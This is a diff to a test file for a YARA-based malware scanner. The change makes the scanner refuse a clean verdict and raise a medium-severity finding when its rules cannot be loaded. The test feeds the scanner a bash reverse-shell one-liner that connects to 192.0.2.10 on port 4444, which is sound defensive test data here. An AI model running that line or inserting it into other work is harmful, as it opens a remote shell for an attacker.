@@ -227,8 +227,8 @@ def test_engine_works_when_the_rules_cannot_be_loaded(default_env, tmp_path):
     reset_default_ruleset()
     [report] = scan_bytes(b"bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n", "a.sh")
     assert [f.rule_id for f in report.findings] == ["YARA-RULES-UNAVAILABLE"]
-    assert report.findings[0].severity is Severity.info
-    assert report.error is None and report.verdict is Verdict.clean
+    assert report.findings[0].severity is Severity.medium  # never clean without the rules
+    assert report.verdict is not Verdict.clean
 
 
 def test_yara_python_is_selected_by_environment(default_env):
